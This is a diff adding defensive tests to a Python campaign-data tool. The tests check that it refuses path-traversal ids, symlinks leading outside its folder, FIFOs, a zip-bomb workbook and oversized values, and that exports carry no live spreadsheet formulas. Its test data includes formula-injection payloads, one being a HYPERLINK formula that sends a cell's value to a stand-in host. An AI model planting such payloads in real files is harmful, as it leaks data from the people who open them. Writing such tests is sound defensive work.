@@ -22,6 +22,14 @@ from pypdf import PdfReader
 from campaignkit import InvalidCampaign, check_campaign, load_campaign, produce
 from campaignkit.data.tallies import read_tallies
 from campaignkit.printing.preflight import preflight_file
+from tests.bounded import run_bounded
+from tests.hostile import (
+    bomb_workbook,
+    far_cell_workbook,
+    fifo,
+    hidden_first_sheet_workbook,
+    symlink_loop,
+)
 from tests.images import SVG, claimed_size_png, photo, truncated
 from tests.pdfs import largest_image_side, pdf_fonts, pdf_text
 from tests.test_cli import run_cli
@@ -71,6 +79,7 @@ class TallyRefused:
     row: int | None
     column: str | None
     shows: str = ""
+    hides: str | None = None  # a text no message may quote
 
     def verify(self, root, out):
         data = load_campaign(root)
@@ -82,6 +91,8 @@ class TallyRefused:
         assert problem.file.endswith(self.file), texts
         assert (problem.row, problem.column) == (self.row, self.column), texts
         assert self.shows in problem.text("en")
+        assert all(len(text) < 700 for text in texts), "a message quotes a whole cell"
+        assert self.hides is None or not any(self.hides in text for text in texts), texts
         assert problem.fix("fr") and problem.text("fr")
         assert "mtl-grand" not in intake.tallies, "a file with a problem is not counted"
 
@@ -100,6 +111,27 @@ class TallyRead:
         tally = intake.tallies["mtl-grand"]
         assert (tally.letters, tally.cards) == (self.letters, self.cards)
         assert tally.participants == self.participants
+
+
+@dataclass(frozen=True)
+class RefusedInBounds:
+    """`campaignkit COMMAND` (check or results), run in a child held to a memory ceiling and
+    a deadline, names the problem and exits 1: no hang, no traceback, under 300 MB."""
+
+    command: str
+    file: str
+    shows: str
+
+    def verify(self, root, out):
+        extra = ("--out-dir", str(out)) if self.command == "results" else ()
+        result = run_bounded(self.command, str(root), *extra)
+        assert not result.hung, f"still running at the deadline: {result.output[-500:]}"
+        assert result.returncode == 1, result.output[-2000:]
+        assert "Traceback" not in result.output, result.output[-2000:]
+        assert result.peak_mb is not None and result.peak_mb < 300, result.peak_mb
+        line = next(line for line in result.output.splitlines() if self.file in line)
+        assert self.shows in line and "Fix:" in line and len(line) < 700, line
+        assert not out.exists() or not [p for p in out.rglob("*") if p.is_file()]
 
 
 @dataclass(frozen=True)
@@ -274,6 +306,43 @@ def text_file(name):
         (root / "photos" / name).write_text("not a picture\n")
 
     return run
+
+
+def tally_file(make):
+    """The tally of mtl-grand as an XLSX that `make(path, rows)` writes."""
+
+    def run(c):
+        (c.root / "tallies" / "mtl-grand.csv").unlink()
+        make(c.root / "tallies" / "mtl-grand.xlsx", TALLY)
+
+    return run
+
+
+_BOMB: dict[str, bytes] = {}
+
+
+def zip_bomb(path, rows):
+    """One 1 MB workbook holding a 1 GB cell, made once per test run."""
+    if "bytes" not in _BOMB:
+        _BOMB["bytes"] = bomb_workbook(path, rows).read_bytes()
+    path.write_bytes(_BOMB["bytes"])
+
+
+def tally_symlinked_outside(c):
+    """tallies/mtl-grand.csv links to a file beside the campaign, with a cell worth hiding."""
+    outside = c.root.parent / "elsewhere" / "private.csv"
+    outside.parent.mkdir()
+    rows = tally_row("ana", "private-cell-value", 185)
+    outside.write_text("\n".join(",".join(str(cell) for cell in row) for row in rows))
+    (c.root / "tallies" / "mtl-grand.csv").unlink()
+    os.symlink(outside, c.root / "tallies" / "mtl-grand.csv")
+
+
+def events_symlinked_outside(c):
+    outside = c.root.parent / "elsewhere" / "events.csv"
+    outside.parent.mkdir()
+    (c.root / EVENTS).rename(outside)
+    os.symlink(outside, c.root / EVENTS)
 
 
 def check_40_megapixels(pdf):
@@ -769,6 +838,141 @@ CORPUS = {
         ),
         Printed(("casebook",), texts=("Essai",)),
     ),
+    # names that become paths (issue 12)
+    "campaign-id-absolute-path": (
+        "paths",
+        edit(CAMPAIGN, "id: mini", 'id: "/var/elsewhere"'),
+        Refused("bad_id", "campaign.yaml", "id", line=2, shows="/var/elsewhere"),
+    ),
+    "campaign-id-dot-dot": (
+        "paths",
+        edit(CAMPAIGN, "id: mini", 'id: "../../x"'),
+        Refused("bad_id", "campaign.yaml", "id", line=2, shows="../../x"),
+    ),
+    "event-id-of-305-characters": (
+        "paths",
+        edit(EVENTS, "mtl-cafe,montreal", "mtl-" + "cafe-" * 60 + "x,montreal"),
+        Refused("bad_id", "events.csv", "id", row=3, shows="at most 60"),
+    ),
+    "region-id-of-106-characters": (
+        "paths",
+        edit(REGIONS, "cote-nord,09", "cote-" + "nord-" * 20 + "x,09"),
+        Refused("bad_id", "regions.csv", "id", row=4),
+    ),
+    "photo-name-with-a-tab": (
+        "paths",
+        with_photo("photos/ana\tportrait.jpg"),
+        Refused("bad_file_name", "ana.yaml", "photo.file", line=5, shows="ana\\tportrait"),
+    ),
+    "logo-name-with-a-pipe": (
+        "paths",
+        edit(CAMPAIGN, '  accent: "#E4003A"', '  accent: "#E4003A"\n  logo: "logo|1.png"'),
+        Refused("bad_file_name", "campaign.yaml", "branding.logo", line=25),
+    ),
+    # numbers beyond any campaign (issue 12)
+    "impact-figure-5e29": (
+        "numbers",
+        edit(CAMPAIGN, "value: 5828000", "value: 530000000000000000000000000000"),
+        Refused("number_too_large", "campaign.yaml", "impact.0.value", line=19),
+    ),
+    "goal-1e26": (
+        "numbers",
+        edit(CAMPAIGN, "actions: 500", "actions: 100000000000000000000000000"),
+        Refused("number_too_large", "campaign.yaml", "goals.actions", line=26),
+    ),
+    "region-goal-absurd": (
+        "numbers",
+        edit(REGIONS, "514 555-0101,300,250", "514 555-0101,300000000000000000000,250"),
+        Refused("number_too_large", "regions.csv", "goal_actions", row=2),
+    ),
+    "edition-absurd": (
+        "numbers",
+        edit(CAMPAIGN, "edition: 1", "edition: 100000000000000000000"),
+        Refused("number_too_large", "campaign.yaml", "edition", line=3),
+    ),
+    # YAML keys that are not text (issue 12)
+    "number-as-a-key": (
+        "keys",
+        edit(ANA, "featured: true", "featured: true\n7: x"),
+        Refused("unknown_field", "ana.yaml", "7", line=27),
+    ),
+    "true-as-a-key": (
+        "keys",
+        edit(ANA, "featured: true", "featured: true\ntrue: y"),
+        Refused("unknown_field", "ana.yaml", "true", line=27),
+    ),
+    "year-as-a-nested-key": (
+        "keys",
+        edit(ANA, "  first_name: Ana", "  first_name: Ana\n  2023: x"),
+        Refused("unknown_field", "ana.yaml", "card.2023", line=22),
+    ),
+    # only regular files, inside the campaign (issue 12)
+    "events-csv-is-a-fifo": (
+        "files",
+        lambda c: fifo(c.root / EVENTS),
+        RefusedInBounds("check", "events.csv", shows="named pipe (FIFO)"),
+    ),
+    "case-file-is-a-fifo": (
+        "files",
+        lambda c: fifo(c.root / "cases" / "x.yaml"),
+        RefusedInBounds("check", "x.yaml", shows="named pipe (FIFO)"),
+    ),
+    "events-csv-symlinked-outside": (
+        "files",
+        events_symlinked_outside,
+        Refused("outside_folder", "events.csv"),
+    ),
+    "campaign-yaml-symlink-loop": (
+        "files",
+        lambda c: symlink_loop(c.root / CAMPAIGN),
+        Refused("symlink_loop", "campaign.yaml", shows="leads back to itself"),
+    ),
+    "photo-symlink-loop": (
+        "files",
+        with_photo("photos/ana.jpg", lambda root: symlink_loop(root / "photos" / "ana.jpg")),
+        Refused("symlink_loop", "ana.yaml", "photo.file", line=5),
+    ),
+    "photo-is-a-fifo": (
+        "files",
+        with_photo("photos/ana.jpg", lambda root: fifo(root / "photos" / "ana.jpg")),
+        Refused("not_regular_file", "ana.yaml", "photo.file", line=5, shows="named pipe"),
+    ),
+    "tally-symlinked-outside": (
+        "files",
+        tally_symlinked_outside,
+        TallyRefused("outside_folder", "mtl-grand.csv", None, None, hides="private-cell-value"),
+    ),
+    "case-file-of-2-megabytes": (
+        "files",
+        edit(ANA, "sample: true", "sample: true\n" + "".join(f"k{n}: v\n" for n in range(250_000))),
+        Refused("file_too_large", "ana.yaml", shows="at most 1 MB"),
+    ),
+    "tally-is-a-fifo": (
+        "files",
+        lambda c: fifo(c.root / "tallies" / "mtl-grand.csv"),
+        TallyRefused("not_regular_file", "mtl-grand.csv", None, None, shows="named pipe"),
+    ),
+    # workbooks in bounded memory (issue 12)
+    "tally-hidden-first-sheet": (
+        "workbooks",
+        tally_file(lambda path, rows: hidden_first_sheet_workbook(path, rows, rows + rows)),
+        TallyRefused("sheet_hidden", "mtl-grand.xlsx", None, None, shows="'old copy'"),
+    ),
+    "tally-one-space-in-XFD1048576": (
+        "workbooks",
+        tally_file(far_cell_workbook),
+        RefusedInBounds("results", "mtl-grand.xlsx", shows="XFD1048576"),
+    ),
+    "tally-1-gigabyte-cell-zipped-to-1-megabyte": (
+        "workbooks",
+        tally_file(zip_bomb),
+        RefusedInBounds("results", "mtl-grand.xlsx", shows="1000 MB once unzipped"),
+    ),
+    "tally-cell-of-5000-characters": (
+        "workbooks",
+        tally_csv(tally_row("ana", 210, "x" * 5000)),
+        TallyRefused("cell_too_long", "mtl-grand.csv", row=6, column="C", shows="5000"),
+    ),
 }
 
 
@@ -788,6 +992,12 @@ def test_corpus_covers_every_category_of_the_issue():
         assert categories.count(category) >= 10, category
 
 
+def test_corpus_covers_issue_12():
+    categories = [category for category, _, _ in CORPUS.values()]
+    for category in ("paths", "numbers", "keys", "files", "workbooks"):
+        assert categories.count(category) >= 3, category
+
+
 # A sample of refusals, through the command a coordinator runs: exit 1, the place and the fix
 # in both languages, no traceback.
 CLI_SAMPLE = [
@@ -804,6 +1014,11 @@ CLI_SAMPLE = [
     "billion-laughs",
     "tally-absurd-count",
     "tally-formula-never-computed",
+    "campaign-id-absolute-path",
+    "impact-figure-5e29",
+    "true-as-a-key",
+    "photo-symlink-loop",
+    "tally-cell-of-5000-characters",
 ]
 
 
@@ -826,6 +1041,59 @@ def test_cli_names_the_problem_without_a_traceback(name, campaign_copy):
         assert fix in line and len(line) < 700, line
         if getattr(outcome, "field", None):
             assert f"{'field' if lang == 'en' else 'champ'} {outcome.field}" in line, line
+
+
+# Exports never carry a live formula (issue 12): every free text of events.csv and
+# regions.csv typed as a formula, then results.csv, results.xlsx and the job sheet read back.
+FORMULAS = [
+    '=HYPERLINK("//x.example?"&B2,"MAJ")',
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1;2)",
+    "\t=1+2",
+    "\r=1+2",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+TEXT_COLUMNS = {  # emails and phone numbers are checked as such: a formula is refused there
+    EVENTS: ["title_fr", "title_en", "venue", "address", "city", "contact_name"],
+    REGIONS: ["name_fr", "name_en", "coordinator_name"],
+}
+
+
+def every_text_as(c, formula: str):
+    for name, columns in TEXT_COLUMNS.items():
+        path = c.root / name
+        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+        for row in rows:
+            row.update({column: formula for column in columns})
+        buffer = io.StringIO()
+        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+        path.write_text(buffer.getvalue(), encoding="utf-8")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_exports_carry_no_live_formula(formula, campaign_copy, tmp_path):
+    from campaignkit.data.results import export, results_of
+
+    every_text_as(campaign_copy, formula)
+    data = load_campaign(campaign_copy.root)
+    assert data.events[1].city == formula.strip(), "the formula passed check as a city"
+    csv_path, xlsx_path = export(results_of(data), out_dir=tmp_path / "out")
+
+    book = openpyxl.load_workbook(xlsx_path)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula"
+    typed = [cell for cell in cells if cell.value == formula.strip()]
+    assert typed, "the missing events' city is exported"
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)
+
+    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
+    assert not [value for row in rows for value in row if value.startswith(TRIGGERS)]
+    text = csv_path.read_text(encoding="utf-8")
+    assert all(line.startswith('"') for line in text.splitlines()), "every text is quoted"
 
 
 # --- the same corpus through the editor's session (issue 10, item 3) ------------------------
@@ -898,6 +1166,9 @@ def test_corpus_through_the_editor_session(name, campaign_copy):
             and (p.row, p.column) == (outcome.row, outcome.column)
         ]
         assert found, texts
+    elif isinstance(outcome, RefusedInBounds):
+        named = [p for p in problems if p.file.endswith(outcome.file)]
+        assert any(outcome.shows in p.text("en") for p in named), texts
     elif isinstance(outcome, TallyRead):
         assert problems == [], texts
         if tally.spreadsheet is None:
